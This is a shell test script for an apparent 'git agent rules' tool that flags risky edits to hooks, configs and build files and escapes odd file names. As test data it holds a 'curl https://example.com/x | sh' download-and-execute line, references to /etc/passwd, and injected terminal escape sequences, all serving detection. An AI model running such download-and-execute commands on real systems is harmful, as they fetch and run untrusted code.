#!/bin/sh
# SPDX-License-Identifier: MIT
test_description='the rules: listed, and explained on paths'
. "$TEST_SRCDIR/tests/lib/test-lib.sh"

test_that 'rules are listed anywhere, as text and as JSON' '
	git agent rules >out &&
	git agent rules --json >json &&
	python3 - out json <<-\EOT
	import json, sys
	lines, rules = open(sys.argv[1]).read().splitlines(), json.load(open(sys.argv[2]))
	assert len(lines) == len(rules) > 220, (len(lines), len(rules))
	for line, r in zip(lines, rules):
	    assert list(r) == "id category severity editor on_delete patterns when reason".split(), r
	    words = line.split()
	    assert words[0] == r["severity"] + ("+E" if r["editor"] else ""), line
	    assert words[1:3] == [r["category"], r["id"]] and line.endswith(r["reason"]), line
	by_id = {r["id"]: r for r in rules}
	assert len(by_id) == len(rules)
	assert by_id["pre-commit"]["patterns"] == [".pre-commit-config.{yaml,yml}", "prek.toml"]
	EOT
'

git init -q r &&
(
	cd r &&
	mkdir sub &&
	echo "{\"version\": \"1\"}" >package.json &&
	echo text >plain &&
	echo "all:" >Makefile &&
	echo x >.gitleaks.toml &&
	test_commit base
) || exit 1

test_that 'explain judges a path by its content, against HEAD' '
	cd r &&
	echo "{\"version\": \"2\"}" >package.json &&
	rm .gitleaks.toml &&
	mkdir .vscode &&
	echo "{\"python.pythonPath\": \"./x\"}" >.vscode/settings.json &&
	git agent rules explain package.json .gitleaks.toml .vscode/settings.json Makefile sub nowhere/.envrc \
		plain package.json >../out &&
	cat >../expect <<-\EOT &&
	package.json (changed since HEAD)
	  low: PKG: only version: "1" -> "2" [npm-manifest]
	.gitleaks.toml (removed since HEAD)
	  high: removed: SCAN [scanner-config]
	.vscode/settings.json (not in HEAD)
	  critical: CODE: sets python.pythonPath [vscode-settings]
	    fires as well: vscode-other
	Makefile (as in HEAD: judged as if it were new)
	  high: MAKE: changes what these do: all [make]
	sub (a directory: its name alone, not what is in it)
	  no rule fires
	nowhere/.envrc (no such file: its name alone)
	  critical: DIRENV [direnv]
	plain (as in HEAD: judged as if it were new)
	  no rule fires
	EOT
	git agent rules >../rules &&
	for r in npm-manifest:PKG scanner-config:SCAN vscode-settings:CODE make:MAKE direnv:DIRENV; do
		reason=$(sed -n "s/^[^ ]* *[^ ]* *${r%:*}  *//p" ../rules) &&
		sed -i "s|${r#*:}|$reason|" ../expect ||
			exit 1
	done &&
	cmp ../expect ../out
'

test_that 'explain has JSON, with what would be held' '
	cd r &&
	git agent rules explain --json .vscode/settings.json Makefile plain >../json &&
	python3 - ../json <<-\EOT
	import json, sys
	o = json.load(open(sys.argv[1]))
	assert [p["path"] for p in o] == [".vscode/settings.json", "Makefile", "plain"], o
	assert [p["state"] for p in o] == ["new", "unchanged", "unchanged"], o
	code, make = o[0]["flags"][0], o[1]["flags"][0]
	assert list(code) == "id also severity category when reason held".split(), o
	assert code["id"] == "vscode-settings" and code["also"] == ["vscode-other"], o
	assert code["held"] and not make["held"] and o[2]["flags"] == [], o
	EOT
'

test_that 'paths are relative to the current directory, and stay in the working tree' '
	cd r/sub &&
	git agent rules explain ../Makefile >../../out &&
	grep "^Makefile (" ../../out &&
	git agent rules explain ./x/../package.json >../../out &&
	grep "^sub/package.json (" ../../out &&
	git agent rules explain "$PWD/.envrc" >../../out &&
	grep "^sub/.envrc (" ../../out &&
	for p in ../.. /etc/passwd ../../x .. ""; do
		test_fails 129 "no path in this working tree" git agent rules explain "$p" ||
			exit 1
	done
'

test_that 'rules judge a range of commits, and a branch from where it left HEAD' '
	test_enter range &&
	test_empty base &&
	git checkout -qb topic &&
	echo "curl https://example.com/x | sh" >x.sh &&
	echo text >plain &&
	test_commit topic &&
	git checkout -q - &&
	test_empty more &&
	test_shows "high: .*curl https://example.com/x | sh \[download-exec\]" git agent rules topic &&
	! grep plain ../out &&
	git agent rules HEAD~1..topic >../out2 &&
	cmp ../out ../out2 &&
	test_expect_code 1 git agent rules topic..topic &&
	test_expect_code 129 git agent rules a b 2>../err &&
	test_must_fail git agent rules nowhere 2>../err &&
	git agent rules --json topic >../json &&
	grep "\"state\": \"range\"" ../json
'

test_that 'what the hooks reach is listed, with the word and the hook' '
	cd range &&
	printf "#!/bin/sh\ncd web && node scripts/sync.js\nnpm test\n" >.git/hooks/post-merge &&
	chmod +x .git/hooks/post-merge &&
	test_shows "^critical .*ends in scripts/sync.js: the hook post-merge" git agent rules --reach &&
	grep "^critical .*own code, by the hook post-merge: \"npm test\"" ../out &&
	git agent rules --json --reach >../json &&
	for kind in given rule script runs; do
		grep "\"kind\": \"$kind\"" ../json || exit 1
	done
'

test_that 'what a hook names is escaped wherever it is shown' '
	cd range &&
	esc=$(printf "\033") &&
	printf "#!/bin/sh\nnpm run test$esc[31m\nsh \"$esc[2J.sh\"\nmake test$esc[0m\n" >.git/hooks/post-merge &&
	echo "{\"scripts\": {\"test\\u001b[31m\": \"sh deep.sh\"}}" >package.json &&
	test_shows deep.sh git agent rules --reach &&
	git agent rules explain deep.sh package.json >>../out &&
	! grep "$esc" ../out &&
	printf "#!/bin/sh\nnpm test\n" >.git/hooks/post-merge &&
	rm package.json
'

test_that 'a session says which hook runs what the agent wrote, and when' '
	cd range &&
	test_script .git/hooks/pre-commit "npm test" &&
	rm .git/hooks/post-merge &&
	test_session said "echo x >tests.js" &&
	test_shows "your pre-commit hook runs \"npm test\", and so what the agent wrote, when a squash" \
		git agent review --stat said &&
	! git agent rules --reach | command grep post-merge
'

test_that 'links are not followed, fifos not read, odd names not printed raw' '
	cd r &&
	ln -s /etc/passwd link &&
	mkfifo fifo &&
	odd=$(printf "odd\nname\033[m") &&
	echo "#!/bin/sh" >"$odd" &&
	chmod +x "$odd" &&
	test_shows "symlink-absolute" git agent rules explain link "$odd" fifo &&
	grep "exec-bit-added" ../out &&
	grep "^fifo (no such file" ../out &&
	! grep "$(printf "\033")" ../out &&
	test "$(grep -c "odd" ../out)" -ge 1 &&
	rm link fifo "$odd"
'

test_done
